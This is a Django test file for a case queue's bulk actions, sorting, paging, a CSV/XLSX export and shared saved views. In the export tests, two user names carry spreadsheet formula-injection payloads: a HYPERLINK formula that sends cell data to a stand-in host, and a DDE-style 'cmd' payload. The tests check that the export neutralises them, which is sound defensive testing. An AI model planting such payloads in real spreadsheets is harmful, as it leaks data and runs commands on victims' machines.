"""Bulk and queue work (issue 18 §3 and §5): column sorting, position and count, the incident-type checkboxes, bulk
assign/refer/note with per-case outcomes, the queue export, and saved views shared with a unit."""

import csv
import io
from datetime import timedelta

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from accounts import services as account_services
from accounts.models import Role, SavedQueueFilter
from accounts.selectors import actor_for, share_unit, shared_queue_filters
from cases import services
from cases.choices import AccessAction, CaseStatus, EventKind, IncidentKind, NoteVisibility, Track
from cases.forms import BULK_MAX
from cases.models import AccessLog, Case, CaseEvent, Referral
from tests.conftest import reauthenticated
from tests.factories import case_in, member

S = CaseStatus
BULK = "/queue/bulk/"
STALE = "Someone else changed this case after you opened the queue, so nothing was done to it."
NOT_IN_QUEUE = "This case is not in your queue, or does not exist."


def seen(*cases: Case) -> list[str]:
    """The checkbox values the queue page gives these cases: id and the version shown."""
    return [f"{c.pk}:{c.version}" for c in cases]


def outcomes(response) -> list[tuple[int, str, bool, str]]:
    return [(o.case_id, o.reference, o.done, o.reason) for o in response.context["outcomes"]]


def snapshot(case: Case) -> tuple:
    case.refresh_from_db()
    return (case.status, case.version, case.assigned_to_id, case.events.count())


# --- bulk actions ---------------------------------------------------------------------------------------------------


def test_choosing_an_action_shows_its_form_with_the_case_pages_fields_and_changes_nothing(client, world):
    a, b = case_in(world, S.INTAKE), case_in(world, S.INTAKE)
    before = snapshot(a), snapshot(b)
    client.force_login(world.supervisor)
    response = client.post(BULK, {"action": "refer", "case": seen(a, b), "back": "status=intake"})
    assert response.status_code == 200
    assert list(response.context["form"].fields) == ["target", "to_unit", "body_name", "track", "due_at"]
    assert [c.pk for c in response.context["cases"]] == [a.pk, b.pk]
    assert "Refer: 2 selected cases" in response.content.decode()
    assert (snapshot(a), snapshot(b)) == before


def test_bulk_assign_does_each_case_and_refuses_one_changed_in_the_meantime(client, world):
    a, b, c = (case_in(world, S.INTAKE) for _ in range(3))
    values = seen(a, b, c)
    # Someone else writes on b after the queue page was loaded.
    services.add_note(case=b, by=world.county_supervisor, text="已电话联系")
    b_before = snapshot(b)
    client.force_login(world.supervisor)
    response = client.post(
        BULK, {"action": "assign", "case": values, "assignee": world.county_supervisor.pk, "apply": "1"}
    )
    assert response.status_code == 200
    assert outcomes(response) == [
        (a.pk, a.reference, True, ""),
        (b.pk, b.reference, False, STALE),
        (c.pk, c.reference, True, ""),
    ]
    assert (response.context["done"], response.context["refused"]) == (2, 1)
    assert snapshot(b) == b_before  # nothing done to the refused case
    assert b_before[2] is None
    for case in (a, c):
        case.refresh_from_db()
        assert case.assigned_to_id == world.county_supervisor.pk
        assert case.events.filter(kind=EventKind.ASSIGNED, actor=world.supervisor).count() == 1
    page = response.content.decode()
    assert "Done: 2. Refused: 1." in page


def test_bulk_refer_refuses_a_case_at_the_wrong_stage_and_refers_the_others_through_the_service(client, world):
    open_case, closed = case_in(world, S.INTAKE), case_in(world, S.CLOSED)
    closed_before = snapshot(closed)
    referrals_before = Referral.objects.filter(case=closed).count()
    client.force_login(world.supervisor)
    response = client.post(
        BULK,
        {
            "action": "refer",
            "case": seen(open_case, closed),
            "target": "internal_unit",
            "to_unit": world.county.pk,
            "track": Track.ADMINISTRATIVE,
            "apply": "1",
        },
    )
    assert outcomes(response) == [
        (open_case.pk, open_case.reference, True, ""),
        (
            closed.pk,
            closed.reference,
            False,
            "The action “Refer” is not possible while the case is at the stage “Closed”.",
        ),
    ]
    open_case.refresh_from_db()
    referral = Referral.objects.get(case=open_case)
    assert (open_case.status, open_case.track, referral.to_unit_id, referral.referred_by_id) == (
        S.REFERRED,
        Track.ADMINISTRATIVE,
        world.county.pk,
        world.supervisor.pk,
    )
    assert open_case.stage_due_at == referral.due_at
    assert snapshot(closed) == closed_before
    assert Referral.objects.filter(case=closed).count() == referrals_before


def test_bulk_refer_with_a_missing_field_shows_the_form_again_and_keeps_the_input(client, world):
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    client.force_login(world.supervisor)
    response = client.post(
        BULK,
        {"action": "refer", "case": seen(case), "target": "other", "body_name": "", "track": "criminal", "apply": "1"},
    )
    assert response.status_code == 409  # the form was valid; the service refused the one case
    assert outcomes(response) == [(case.pk, case.reference, False, "Name the body the case is referred to.")]
    assert snapshot(case) == before
    invalid = client.post(BULK, {"action": "refer", "case": seen(case), "track": "sideways", "apply": "1"})
    assert invalid.status_code == 400
    assert "track" in invalid.context["form"].errors
    assert snapshot(case) == before


def test_ids_outside_the_queue_are_refused_alike_whether_or_not_the_case_exists(client, world):
    mine = case_in(world, S.INTAKE)
    elsewhere = case_in(world, S.INTAKE)
    Case.objects.filter(pk=elsewhere.pk).update(unit=world.sibling_station, unit_path=world.sibling_station.path)
    elsewhere_before = snapshot(elsewhere)
    missing = Case.objects.order_by("-pk").first().pk + 1000
    client.force_login(world.supervisor)
    response = client.post(
        BULK,
        {
            "action": "note",
            "case": [*seen(mine), f"{elsewhere.pk}:{elsewhere.version}", f"{missing}:1"],
            "text": "请尽快联系受害民警",
            "visibility": NoteVisibility.INTERNAL,
            "apply": "1",
        },
    )
    assert outcomes(response) == [
        (mine.pk, mine.reference, True, ""),
        (elsewhere.pk, "", False, NOT_IN_QUEUE),
        (missing, "", False, NOT_IN_QUEUE),
    ]
    assert elsewhere.reference not in response.content.decode()
    assert snapshot(elsewhere) == elsewhere_before
    denied = AccessLog.objects.filter(user=world.supervisor, action=AccessAction.DENIED).order_by("pk")
    assert [d.object_ref for d in denied][:2] == [f"case:{elsewhere.pk}", f"case:{missing}"]
    assert response.status_code == 200
    # Only cases outside the queue: answered as if none existed.
    alone = client.post(
        BULK,
        {
            "action": "note",
            "case": [f"{elsewhere.pk}:{elsewhere.version}"],
            "text": "x",
            "visibility": "internal",
            "apply": "1",
        },
    )
    assert alone.status_code == 404
    assert outcomes(alone) == [(elsewhere.pk, "", False, NOT_IN_QUEUE)]
    assert snapshot(elsewhere) == elsewhere_before
    note = CaseEvent.objects.get(case=mine, kind=EventKind.NOTE)
    assert note.data == {"text": "请尽快联系受害民警", "visibility": NoteVisibility.INTERNAL}


def test_a_bulk_form_sent_twice_adds_each_note_once(client, world):
    a, b = case_in(world, S.INTAKE), case_in(world, S.REFERRED)
    client.force_login(world.supervisor)
    form = {"action": "note", "case": seen(a, b), "text": "已核实", "visibility": "internal", "apply": "1"}
    first = client.post(BULK, form)
    second = client.post(BULK, form)
    assert (first.status_code, second.status_code) == (200, 409)
    assert [o[2] for o in outcomes(first)] == [True, True]
    assert outcomes(second) == [(a.pk, a.reference, False, STALE), (b.pk, b.reference, False, STALE)]
    assert CaseEvent.objects.filter(case__in=[a, b], kind=EventKind.NOTE).count() == 2


def test_more_than_the_cap_is_refused_with_a_message_and_nothing_changes(client, world):
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    client.force_login(world.supervisor)
    values = [*seen(case), *(f"{case.pk + n}:1" for n in range(1, BULK_MAX + 1))]
    response = client.post(
        BULK, {"action": "note", "case": values, "text": "x", "visibility": "internal", "apply": "1"}
    )
    assert response.status_code == 400
    assert response.context["selection"].non_field_errors() == [
        f"You selected {BULK_MAX + 1} cases; select at most {BULK_MAX} at a time."
    ]
    assert snapshot(case) == before
    nothing = client.post(BULK, {"action": "note", "apply": "1"})
    assert nothing.status_code == 400
    assert nothing.context["selection"].non_field_errors() == ["Select at least one case."]


def test_a_case_the_supervisor_may_not_handle_is_refused_with_the_services_reason(client, world):
    """A supervisor of the county covers the station's cases; one moved to the other station's sibling is out of
    reach, and a closed case cannot be assigned: the service's own refusal is listed."""
    closed = case_in(world, S.CLOSED)
    before = snapshot(closed)
    client.force_login(world.county_supervisor)
    response = client.post(BULK, {"action": "assign", "case": seen(closed), "assignee": "", "apply": "1"})
    assert response.status_code == 409
    assert outcomes(response) == [
        (closed.pk, closed.reference, False, "Only a supervisor of this unit can do this on an open case.")
    ]
    assert snapshot(closed) == before


def test_only_supervisors_work_in_bulk(client, world):
    case = case_in(world, S.INTAKE)
    before = snapshot(case)
    client.force_login(world.officer)
    response = client.post(
        BULK, {"action": "note", "case": seen(case), "text": "x", "visibility": "shared", "apply": "1"}
    )
    assert response.status_code == 403
    assert snapshot(case) == before


# --- sorting, position and the incident-type checkboxes -------------------------------------------------------------


def test_column_headers_sort_both_ways_keep_the_filters_and_say_which_way(client, world):
    soon = case_in(world, S.INTAKE)
    later = case_in(world, S.INTAKE)
    Case.objects.filter(pk=soon.pk).update(stage_due_at=timezone.now() + timedelta(days=2))
    Case.objects.filter(pk=later.pk).update(stage_due_at=timezone.now() + timedelta(days=9))
    client.force_login(world.supervisor)
    response = client.get("/queue/", {"status": "intake", "sort": "due", "dir": "asc"})
    assert [c.pk for c in response.context["page"].cases] == [soon.pk, later.pk]
    links = response.context["sort_links"]
    assert links["due"] == {"url": "?status=intake&sort=due&dir=desc", "aria_sort": "ascending"}
    assert links["created"] == {"url": "?status=intake&sort=created&dir=desc", "aria_sort": ""}
    assert links["activity"] == {"url": "?status=intake&sort=activity&dir=desc", "aria_sort": ""}
    page = response.content.decode()
    assert 'aria-sort="ascending"><a class="sort-link" href="/queue/?status=intake&amp;sort=due&amp;dir=desc">' in page
    assert page.count("aria-sort=") == 1
    flipped = client.get("/queue/" + links["due"]["url"])
    assert [c.pk for c in flipped.context["page"].cases] == [later.pk, soon.pk]
    assert flipped.context["sort_links"]["due"]["aria_sort"] == "descending"
    by_reference = client.get("/queue/", {"sort": "created", "dir": "asc"})
    assert [c.pk for c in by_reference.context["page"].cases] == [soon.pk, later.pk]
    assert by_reference.context["sort_links"]["created"]["aria_sort"] == "ascending"


def test_the_position_and_count_follow_the_pages_both_ways(client, world, monkeypatch):
    made = [case_in(world, S.INTAKE) for _ in range(27)]
    client.force_login(world.supervisor)
    first = client.get("/queue/", {"sort": "created", "dir": "asc"})
    assert "Cases 1–25 of 27" in first.content.decode()
    assert [c.pk for c in first.context["page"].cases] == [c.pk for c in made[:25]]
    assert first.context["previous_url"] == ""
    second = client.get("/queue/" + first.context["next_url"])
    assert "pos=25" in first.context["next_url"]
    assert "Cases 26–27 of 27" in second.content.decode()
    assert [c.pk for c in second.context["page"].cases] == [made[25].pk, made[26].pk]
    assert second.context["next_url"] == ""
    assert second.context["previous_url"] == "?sort=created&dir=asc"
    back = client.get("/queue/" + second.context["previous_url"])
    assert "Cases 1–25 of 27" in back.content.decode()
    # Past the cap the count says so.
    monkeypatch.setattr("cases.queue_filters.COUNT_CAP", 20)
    capped = client.get("/queue/", {"sort": "created", "dir": "asc"})
    assert "Cases 1–25 of more than 20" in capped.content.decode()
    # A paging link without a position still pages, and shows the count only.
    bare = client.get(
        "/queue/",
        {"sort": "created", "dir": "asc", "after": second.context["next_url"] or first.context["page"].next_cursor},
    )
    assert bare.status_code == 200
    assert "More than 20 cases" in bare.content.decode()


def test_incident_types_are_checkboxes_in_a_disclosure_and_several_can_be_chosen(client, world):
    attack = case_in(world, S.INTAKE, kind=IncidentKind.VIOLENT_ATTACK)
    threat = case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.DOXXING)
    client.force_login(world.supervisor)
    response = client.get("/queue/", {"kind": [IncidentKind.VIOLENT_ATTACK, IncidentKind.THREAT]})
    assert {c.pk for c in response.context["page"].cases} == {attack.pk, threat.pk}
    page = response.content.decode()
    assert '<details class="mb-3 disclosure-field" open>' in page
    assert '<input type="checkbox" name="kind" value="threat" id="id_kind_4" checked>' in page
    assert 'name="kind" multiple' not in page
    closed = client.get("/queue/").content.decode()
    assert '<details class="mb-3 disclosure-field">' in closed


# --- the export -----------------------------------------------------------------------------------------------------


def _csv(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_the_export_lists_the_filtered_queue_without_personal_data_and_is_logged(client, world):
    case = case_in(world, S.INTAKE, kind=IncidentKind.THREAT)
    case_in(world, S.INTAKE, kind=IncidentKind.DOXXING)  # filtered out
    services.add_suspect(case=case, by=world.supervisor, name="张某", id_number="330106199001011234")
    hacker = member(world.city, Role.SUPERVISOR, full_name='=HYPERLINK("http://x.example/?"&A2,"点我")')
    services.assign_case(case=case, by=world.supervisor, expected_version=None, assignee=hacker)
    case.refresh_from_db()
    client.force_login(world.supervisor)
    reauthenticated(client)
    response = client.get("/queue/export/", {"kind": IncidentKind.THREAT, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="rightsguard-queue-')
    rows = _csv(response)
    local = timezone.localtime
    assert rows == [
        [
            "Reference",
            "Incident type",
            "Status",
            "Unit code",
            "Unit",
            "Occurred",
            "Submitted",
            "Stage deadline",
            "Last activity",
            "Assigned",
            "Stalled",
            "Overdue referral",
            "Downgraded",
            "Review prompt",
            "Idle",
        ],
        [
            case.reference,
            "Threat or intimidation",
            "Intake",
            "330106001",
            "北山派出所",
            local(case.occurred_at).strftime("%Y-%m-%d %H:%M"),
            local(case.submitted_at).strftime("%Y-%m-%d %H:%M"),
            local(case.stage_due_at).strftime("%Y-%m-%d %H:%M"),
            local(case.last_activity_at).strftime("%Y-%m-%d %H:%M"),
            '\'=HYPERLINK("http://x.example/?"&A2,"点我")',
            "0",
            "0",
            "0",
            "0",
            "0",
        ],
    ]
    text = "\n".join(",".join(r) for r in rows)
    for personal in ("张某", "330106199001011234", "1234", case.location, case.summary):
        assert personal not in text
    log = AccessLog.objects.get(user=world.supervisor, action=AccessAction.EXPORT)
    assert log.object_ref == "queue format=csv rows=1 filter=kind=threat"


def test_the_workbook_has_the_same_rows_as_text_cells_never_formulas(client, world):
    case = case_in(world, S.INTAKE)
    hacker = member(world.city, Role.SUPERVISOR, full_name="+cmd|'/c calc'!A0")
    services.assign_case(case=case, by=world.supervisor, expected_version=None, assignee=hacker)
    client.force_login(world.supervisor)
    reauthenticated(client)
    response = client.get("/queue/export/", {"format": "xlsx", "sort": "due"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 2
    assert rows[1][0] == case.reference
    assert rows[1][9] == "'+cmd|'/c calc'!A0"
    assert sheet.cell(row=2, column=10).data_type == "s"
    assert rows[1][10:] == (0, 0, 0, 0, 0)
    assert AccessLog.objects.get(action=AccessAction.EXPORT).object_ref == "queue format=xlsx rows=1 filter=sort=due"


def test_the_export_asks_for_the_password_first_and_logs_nothing_until_then(client, world):
    case_in(world, S.INTAKE)
    client.force_login(world.supervisor)
    response = client.get("/queue/export/", {"format": "csv", "view": "mine"})
    assert response.status_code == 302
    assert response["Location"].startswith("/accounts/reauth/")
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).count() == 0
    client.force_login(world.officer)
    reauthenticated(client)
    assert client.get("/queue/export/", {"format": "csv"}).status_code == 403
    assert AccessLog.objects.filter(action=AccessAction.EXPORT).count() == 0


def test_the_export_lists_only_the_users_queue_in_the_pages_order(client, world):
    a, b = case_in(world, S.INTAKE), case_in(world, S.INTAKE)
    other = case_in(world, S.INTAKE)
    Case.objects.filter(pk=other.pk).update(unit=world.sibling_station, unit_path=world.sibling_station.path)
    client.force_login(world.supervisor)
    reauthenticated(client)
    newest_first = _csv(client.get("/queue/export/", {"format": "csv", "sort": "created"}))
    oldest_first = _csv(client.get("/queue/export/", {"format": "csv", "sort": "created", "dir": "asc"}))
    assert [r[0] for r in newest_first[1:]] == [b.reference, a.reference]
    assert [r[0] for r in oldest_first[1:]] == [a.reference, b.reference]


# --- saved views shared with the unit -------------------------------------------------------------------------------


@pytest.fixture
def colleague(world):
    """Another supervisor of the city, the supervisor's own unit."""
    return member(world.city, Role.SUPERVISOR, username="colleague")


def test_a_shared_view_is_seen_read_only_by_the_units_other_supervisors_only(client, world, colleague):
    client.force_login(world.supervisor)
    client.post("/queue/saved/", {"name": "我们的逾期移交", "query": "flag=overdue_referral", "shared": "on"})
    client.post("/queue/saved/", {"name": "我的", "query": "view=mine"})
    shared = SavedQueueFilter.objects.get(name="我们的逾期移交")
    assert (shared.user_id, shared.shared_unit_id) == (world.supervisor.pk, world.city.pk)
    assert SavedQueueFilter.objects.get(name="我的").shared_unit_id is None

    client.force_login(colleague)
    response = client.get("/queue/")
    assert [s.pk for s in response.context["shared"]] == [shared.pk]
    assert list(response.context["saved"]) == []
    page = response.content.decode()
    assert 'href="/queue/?flag=overdue_referral">我们的逾期移交</a>' in page
    assert reverse("cases:queue-delete", args=[shared.pk]) not in page
    # Neither deleted nor renamed by a colleague.
    assert client.post(reverse("cases:queue-delete", args=[shared.pk])).status_code == 404
    client.post("/queue/saved/", {"name": "我们的逾期移交", "query": "view=all"})
    shared.refresh_from_db()
    assert (shared.name, shared.query, shared.user_id) == (
        "我们的逾期移交",
        "flag=overdue_referral",
        world.supervisor.pk,
    )
    assert SavedQueueFilter.objects.filter(name="我们的逾期移交").count() == 2

    # The unit itself, not its subtree, nor another province; the owner sees it among their own.
    for other in (world.county_supervisor, world.sibling_supervisor, world.supervisor):
        assert list(shared_queue_filters(actor=actor_for(other))) == []


def test_a_shared_view_disappears_when_its_owner_leaves_the_unit(world, colleague):
    saved = account_services.save_queue_filter(
        user=world.supervisor, name="逾期", query="flag=overdue", shared_unit=world.city
    )
    assert list(shared_queue_filters(actor=actor_for(colleague))) == [saved]
    world.supervisor.memberships.all().delete()
    assert list(shared_queue_filters(actor=actor_for(colleague))) == []


def test_a_filter_is_shared_only_with_a_unit_the_owner_supervises_at(world):
    assert share_unit(actor_for(world.supervisor)) == world.city
    assert share_unit(actor_for(world.officer)) is None
    with pytest.raises(Exception, match=r"You can only share a filter with a unit you supervise at\."):
        account_services.save_queue_filter(
            user=world.supervisor, name="越权", query="", shared_unit=world.sibling_province
        )
    assert not SavedQueueFilter.objects.filter(name="越权").exists()
